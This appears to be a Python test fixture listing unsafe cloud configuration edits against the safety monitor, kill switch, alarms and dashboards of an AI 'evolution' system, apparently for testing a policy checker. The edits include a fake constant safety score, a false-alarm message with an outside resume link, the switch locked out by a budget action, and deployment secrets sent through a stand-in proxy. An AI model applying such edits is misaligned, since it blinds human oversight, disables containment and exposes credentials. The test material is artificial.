"""A ninth set of unsafe edits: what runs, the record, options and resources of other types."""

from __future__ import annotations

import json
from typing import Any

from tests.policy.attacks import ACCOUNT, TOPIC, at, attack
from tests.policy.attacks_ninth import untagged
from tests.policy.attacks_seventh import planned
from tests.policy.attacks_sixth import more
from tests.policy.builders import UNKNOWN, document
from tests.policy.planned import Edit

RULES: list[dict[str, Any]] = json.loads(planned("prod")["compute-repository-lifecycle"].props["policy"])["rules"]

COMPUTE = (
    attack(
        "the user once more, with a capital",
        "The provider reads keys whatever their case, and the last one counts: the engine runs as root of its container.",
        at("compute-engine-task", "containerDefinitions.0.User", "0:0"),
        "environment/readable",
        "workload/not-root",
    ),
    attack(
        "a root of two digits",
        "`00` is the number 0 for what starts the container: the safety monitor runs as root, for whoever takes it over.",
        at("compute-monitor-task", "containerDefinitions.0.user", "00:10001"),
        "workload/not-root",
    ),
    attack(
        "a variable that stands twice",
        "Of two variables of one name the container gets the last one's value: ten times as many agents as the table allows.",
        at("compute-engine-task", "containerDefinitions.0.environment.+", {"name": "MAX_CONCURRENT_AGENTS", "value": "100000"}),
        "environment/container-limits",
        "environment/table-equality",
    ),
    attack(
        "a log buffer of a kilobyte",
        "What doesn't fit into the buffer of a driver that doesn't block is dropped: the more an engine does, the less of it is written.",
        at("compute-engine-task", "containerDefinitions.0.logConfiguration.options.max-buffer-size", "1k"),
        "approved/choices",
    ),
    attack(
        "images go to the archive",
        "Nothing expires; but what nobody pulled for a day can't be pulled: a safety monitor that stops isn't started again.",
        at(
            "compute-repository-lifecycle",
            "policy.rules",
            [
                RULES[0],
                {
                    "rulePriority": 2,
                    "description": "Images that run are kept in the archive",
                    "selection": {
                        "tagStatus": "tagged",
                        "tagPatternList": ["*"],
                        "countType": "sinceImagePulled",
                        "countUnit": "days",
                        "countNumber": 1,
                    },
                    "action": {"type": "transition", "targetStorageClass": "archive"},
                },
                {**RULES[1], "rulePriority": 3},
            ],
        ),
        "workload/images-kept",
    ),
    attack(
        "the switch resumes",
        "Its function is packed from resume's folder and is granted the same: each minute it resumes, and nothing halts any more.",
        (
            at("evolution-safety-switch", "code", ["functions", "functions/resume"]),
            at("evolution-safety-switch", "environment.variables.ENGINE_MINIMUM", "2"),
            at("evolution-safety-switch", "environment.variables.ENGINE_MAXIMUM", "100"),
            at("evolution-safety-switch-schedule", "target.input", json.dumps({"reason": "schedule"})),
        ),
        "approved/switch-settings",
    ),
)

COMPUTE_STAGING = (
    attack(
        "an archiver that has a second",
        "It is ended while it starts, six times; then its batch is dropped, and what evolution did is in no archive after the stream.",
        at("evolution-archiver", "timeout", 1),
        "approved/choices",
    ),
)


def widget(y: int, kind: str, **properties: Any) -> Edit:
    """A widget more on the dashboard."""
    return at(
        "monitoring-dashboard",
        "dashboardBody.widgets.+",
        {"type": kind, "x": 0, "y": y, "width": 24, "height": 6, "properties": properties},
    )


QUICK = (
    "https://us-east-1.console.aws.amazon.com/cloudformation/home?region=us-east-1#/stacks/quickcreate"
    "?templateURL=https%3A%2F%2Fevolution-runbook.s3.amazonaws.com%2Fresume.yaml&stackName=resume"
)

RECORD = (
    attack(
        "a dashboard of last winter",
        "Whoever opens it at 3 a.m. sees the whole of it for a week in January, when every score was good.",
        (
            at("monitoring-dashboard", "dashboardBody.start", "2026-01-05T00:00:00.000Z"),
            at("monitoring-dashboard", "dashboardBody.end", "2026-01-12T00:00:00.000Z"),
        ),
        "alarms/dashboard",
    ),
    attack(
        "a second dashboard whose score is a constant",
        "It draws 0.97 under the name of the score, above the same threshold: who looks there sees nothing to halt for.",
        untagged(
            "monitoring-overview",
            "cloudwatch/dashboard:Dashboard",
            {},
            dashboardName="Evolution-System-Safety-prod-us-east-1",
            dashboardBody=json.dumps(
                {
                    "widgets": [
                        {
                            "type": "metric",
                            "x": 0,
                            "y": 0,
                            "width": 24,
                            "height": 6,
                            "properties": {
                                "title": "Safety Score Trend",
                                "region": "us-east-1",
                                "view": "timeSeries",
                                "period": 60,
                                "metrics": [
                                    [{"expression": "FILL(m1, 1) * 0 + 0.97", "label": "SafetyScore", "id": "e1"}],
                                    [
                                        "EvolutionSystem",
                                        "SafetyScore",
                                        "Environment",
                                        "prod",
                                        {"stat": "Minimum", "id": "m1", "visible": False},
                                    ],
                                ],
                                "annotations": {"horizontal": [{"label": "SafetyScore: at least 0.8", "value": 0.8}]},
                            },
                        }
                    ]
                }
            ),
        ),
        "alarms/dashboard",
    ),
    attack(
        "a link to the console that makes a stack",
        "The link leads to AWS's own page, with somebody's template filled in: who presses it makes what is in it, with their rights.",
        widget(90, "text", markdown=f"# Resume\n[button:primary:Resume evolution]({QUICK})"),
        "alarms/dashboard-shows",
    ),
    attack(
        "a widget that takes the masks off",
        "Who opens the dashboard and may unmask reads each prompt in clear, and so does everybody who looks at their screen or its export.",
        widget(
            96,
            "log",
            title="Prompts",
            region="us-east-1",
            view="table",
            query="SOURCE '/evolution/prod/prompts' | fields @timestamp, unmask(@message) | sort @timestamp desc | limit 1000",
        ),
        "alarms/dashboard-shows",
    ),
    attack(
        "an alarm that says it is none",
        "The text is in each message and on the alarm's page: who is on call goes back to bed, or signs in at a stranger's page.",
        at(
            "monitoring-unsafe",
            "alarmDescription",
            "A known false alarm since the last release; no need to look. [Resume](https://evolution-oncall.example.net/resume).",
        ),
        "alarms/description",
    ),
    attack(
        "a log of the web ACL that hides who asked",
        "Signatures stay out, and with them the session, the agent and the address behind a proxy: nobody finds the caller again.",
        at(
            "security-web-acl-logging",
            "redactedFields",
            [
                {"singleHeader": {"name": name}}
                for name in ("authorization", "user-agent", "x-forwarded-for", "x-amzn-bedrock-agentcore-runtime-session-id")
            ],
        ),
        "agentcore/web-acl-log-form",
    ),
    attack(
        "an alarm that fires every other minute",
        "The topic carries 1,440 messages a day that mean nothing: who is on call filters them away, and the real one with them.",
        more(
            "monitoring-pulse",
            "cloudwatch/metricAlarm:MetricAlarm",
            {"alarmActions": ["monitoring-alerts"], "okActions": ["monitoring-alerts"]},
            name="evolution-pulse-prod",
            alarmDescription="The safety switch is invoked each minute.",
            metricQueries=[
                {
                    "id": "odd",
                    "expression": "IF(MINUTE(m1) / 2 > FLOOR(MINUTE(m1) / 2), 1, 0)",
                    "label": "pulse",
                    "returnData": True,
                },
                {
                    "id": "m1",
                    "metric": {
                        "namespace": "AWS/Lambda",
                        "metricName": "Invocations",
                        "dimensions": {"FunctionName": "evolution-safety-switch-prod"},
                        "period": 60,
                        "stat": "Sum",
                    },
                },
            ],
            comparisonOperator="GreaterThanThreshold",
            threshold=0,
            evaluationPeriods=1,
            datapointsToAlarm=1,
            treatMissingData="notBreaching",
            actionsEnabled=True,
            alarmActions=[UNKNOWN],
            okActions=[UNKNOWN],
        ),
        "alarms/by-the-clock",
    ),
    attack(
        "flow logs into a group that their role doesn't know",
        "The role's grants name /evolution/prod/flow-logs: nothing is delivered to the group's new name, and no deployment says so.",
        at("network-flow-logs-group", "name", "/evolution/prod/network"),
        "approved/choices",
    ),
)

RECORD_DEV = (
    attack(
        "a budget that is met to the cent or not at all",
        "The notifications compare for equality: what is spent jumps over the limit between two looks, and nobody is told.",
        (
            at("monitoring-budget", "notifications.0.comparisonOperator", "EQUAL_TO"),
            at("monitoring-budget", "notifications.1.comparisonOperator", "EQUAL_TO"),
        ),
        "governance/budget",
    ),
)

BUDGETS = {
    "Effect": "Allow",
    "Principal": {"Service": "budgets.amazonaws.com"},
    "Action": "sts:AssumeRole",
    "Condition": {"StringEquals": {"aws:SourceAccount": ACCOUNT}, "ArnLike": {"aws:SourceArn": f"arn:aws:budgets::{ACCOUNT}:budget/*"}},
}
SWITCHES = f"arn:aws:iam::{ACCOUNT}:role/evolution-safety-switch-prod-us-east-1"
POINTER = {
    "evolution_id": {"S": "current"},
    "generation": {"N": "0"},
    "kind": {"S": "pointer"},
    "version": {"N": "1"},
    "status": {"S": "finished"},
    "active": {"S": "evo-20200101T000000Z"},
}
DENIES_ALARMS: dict[str, Any] = {
    "Name": "alerts",
    "Version": "2021-06-01",
    "Configuration": {"CustomDataIdentifier": [{"Name": "Internal", "Regex": "NewStateValue"}]},
    "Statement": [
        {"Sid": "Deny", "DataDirection": "Inbound", "Principal": ["*"], "DataIdentifier": ["Internal"], "Operation": {"Deny": {}}}
    ],
}

OPTIONS = (
    attack(
        "a boundary's document is left alone",
        "What a deployment may ignore of a boundary is its description: of its document, too, a version made by hand stays in force.",
        at("security-boundary", "ignoreChanges", ("description", "policy")),
        "approved/options",
    ),
    attack(
        "a subscription that is gone before the next one is made",
        "While it is replaced no message wakes the switch, and where the new one can't be made none does any more.",
        at("evolution-switch-hears-topic", "deleteBeforeReplace", True),
        "approved/replaced",
    ),
    attack(
        "the topic refuses what alarms say",
        "A policy on data denies each message with an identifier of its own, which is in every alarm's: none reaches the switch.",
        untagged(
            "monitoring-alerts-data",
            "sns/dataProtectionPolicy:DataProtectionPolicy",
            {"arn": ["monitoring-alerts"]},
            arn=UNKNOWN,
            policy=json.dumps(DENIES_ALARMS),
        ),
        "containment/known-types",
    ),
    attack(
        "a budget that locks the switch out",
        "At one percent of the month's budget AWS attaches a denial of everything to the switch's role, without asking anybody.",
        (
            more(
                "monitoring-budget-role",
                "iam/role:Role",
                {},
                name="evolution-budget-prod-us-east-1",
                description="Budgets: acts when the limit is near.",
                assumeRolePolicy=document(BUDGETS),
            ),
            untagged(
                "monitoring-budget-role-grants",
                "iam/rolePolicy:RolePolicy",
                {"role": ["monitoring-budget-role"]},
                name="grants",
                role="evolution-budget-prod-us-east-1",
                policy=document({"Effect": "Allow", "Action": ["iam:AttachRolePolicy", "iam:DetachRolePolicy"], "Resource": SWITCHES}),
            ),
            more(
                "monitoring-budget-action",
                "budgets/budgetAction:BudgetAction",
                {"budgetName": ["monitoring-budget"], "executionRoleArn": ["monitoring-budget-role"]},
                "monitoring-budget-role-grants",
                budgetName="evolution-system-prod-us-east-1",
                actionType="APPLY_IAM_POLICY",
                approvalModel="AUTOMATIC",
                notificationType="ACTUAL",
                actionThreshold={"actionThresholdType": "PERCENTAGE", "actionThresholdValue": 1},
                definition={
                    "iamActionDefinition": {
                        "policyArn": "arn:aws:iam::aws:policy/AWSDenyAll",
                        "roles": ["evolution-safety-switch-prod-us-east-1"],
                    }
                },
                executionRoleArn=UNKNOWN,
                subscribers=[{"address": TOPIC, "subscriptionType": "SNS"}],
            ),
        ),
        "containment/grants",
        "containment/known-types",
        "identity/boundary",
        "identity/no-escalation",
    ),
    attack(
        "the switch's policies are exactly none",
        "Each deployment removes what the role holds and this list doesn't name: its grants are written, and taken away again.",
        untagged(
            "evolution-safety-switch-role-policies",
            "iam/rolePoliciesExclusive:RolePoliciesExclusive",
            {"roleName": ["evolution-safety-switch-role"]},
            "evolution-safety-switch-role-grants",
            roleName="evolution-safety-switch-prod-us-east-1",
            policyNames=[],
        ),
        "containment/grants",
        "containment/known-types",
    ),
    attack(
        "an item that says what evolves",
        "The pointer leads away from an unsafe evolution: the monitor finds nothing stored and scores 1, and `resume` sees a good alarm.",
        untagged(
            "data-state-pointer",
            "dynamodb/tableItem:TableItem",
            {"tableName": ["data-state"]},
            tableName="evolution-state-prod",
            hashKey="evolution_id",
            rangeKey="generation",
            item=json.dumps(POINTER),
        ),
        "containment/known-types",
    ),
    attack(
        "deployments by somebody's proxy",
        "The provider sends every call, its secrets with it, through a stranger's machine and takes any certificate for AWS's.",
        (at("aws", "httpsProxy", "http://proxy.example.net:3128"), at("aws", "insecure", "true")),
        "governance/no-credentials",
    ),
)
